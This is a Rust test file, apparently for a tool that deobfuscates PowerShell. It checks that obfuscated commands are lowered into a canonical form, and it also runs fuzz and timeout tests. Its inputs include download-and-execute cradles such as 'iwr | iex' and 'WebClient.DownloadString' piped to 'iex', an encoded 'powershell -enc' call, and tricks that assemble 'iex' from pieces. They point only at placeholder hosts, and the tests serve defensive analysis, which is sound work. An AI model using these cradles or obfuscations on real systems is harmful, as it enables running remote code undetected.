//! One line a construct; the print is explained in `show`.

use std::time::Duration;

use metier_testkit::patience::within_processor_time;

use super::powershell;
use crate::lower::show::show;

#[track_caller]
fn check(source: &str, expected: &str) {
    assert_eq!(show(&powershell(source)), expected, "{source}");
}

#[test]
fn commands_are_spelt_out() {
    check(
        "iwr -Uri http://x | iex",
        r#"invoke-expression[] <- invoke-webrequest["-Uri", "http://x"]"#,
    );
    check(
        "I`E`X $x; i''ex; curl.exe y; irm z",
        r#"invoke-expression[$x]; invoke-expression[]; curl["y"]; invoke-restmethod["z"]"#,
    );
    check(
        "powershell.exe -enc SQBFAFgA",
        r#"powershell["-enc", "SQBFAFgA"]"#,
    );
    check(
        "& $x a; &('i'+'ex') $y; . .\\f.ps1",
        r#"<$x>["a"]; <"iex">[$y]; f.ps1[]"#,
    );
    check("a 'b' > f 2>&1", r#">["f"] <- a["b"]"#);
}

#[test]
fn methods_are_calls() {
    check(
        "iex (New-Object System.Net.WebClient).DownloadString('http://x')",
        r#"invoke-expression[Net.WebClient.DownloadString<new-object["System.Net.WebClient"]>["http://x"]]"#,
    );
    check(
        "$c = New-Object Net.WebClient; $c.DownloadFile($u, \"a\")",
        r#"c = new-object["Net.WebClient"]; c.DownloadFile<$c>[$u, "a"]"#,
    );
    check(
        "[Convert]::FromBase64String($x)",
        r#"Convert.FromBase64String<$Convert>[$x]"#,
    );
    check(
        "[Text.Encoding]::UTF8.GetString($b)",
        r#"Text.Encoding.UTF8.GetString<$Text.Encoding.UTF8>[$b]"#,
    );
    check(
        "$x = [char]104 + [char]105",
        "x = join(char[104], char[105])",
    );
}

#[test]
fn texts_are_put_together() {
    check("$x = 'a'+'b' # c", r#"x = "ab""#);
    check(
        "$x = \"a$($y)b`n$env:HOME\"",
        r#"x = join("a", $y, "b\n", $env:HOME)"#,
    );
    check(
        "$x += '{0}{1}' -f 'i','ex'",
        r#"x = join($x, .format<"{0}{1}">["i", "ex"])"#,
    );
    check("$x = @'\na $b\n'@\n", r#"x = "a $b""#);
}

#[test]
fn blocks_are_kept() {
    check("if ($a) { b } else { c }", "block $a {b[]}; block {c[]}");
    check(
        "function F($x) { iex $x }",
        "fn f(x) {invoke-expression[$x]}",
    );
    check(
        "ls | foreach { iex $_ }",
        "foreach[|| {invoke-expression[$_]}] <- ls[]",
    );
    check("<# a #> b `\n c", r#"b["c"]"#);
}

#[test]
fn hostile_texts_end() {
    for piece in [
        "(", "{", "[", "$(", "\"$(", "@{", "-f ", "a|", "$x.y(", "'", "`", "[a]", ")", "$x=",
        "return ",
    ] {
        let text = piece.repeat(20_000);
        within_processor_time(piece, Duration::from_secs(20), || powershell(&text));
    }
}

proptest::proptest! {
    #[test]
    fn any_text_is_lowered(text in "[a-z$(){}\\[\\]|;'\"`@.:,=+>&#< \r\né0-9-]{0,80}") {
        drop(powershell(&text));
    }
}

#[test]
fn a_here_string_may_end_within_its_first_line() {
    for text in ["@'é", "@\"é", "@'", "@\"\n", "$@'日本"] {
        drop(powershell(text));
    }
}
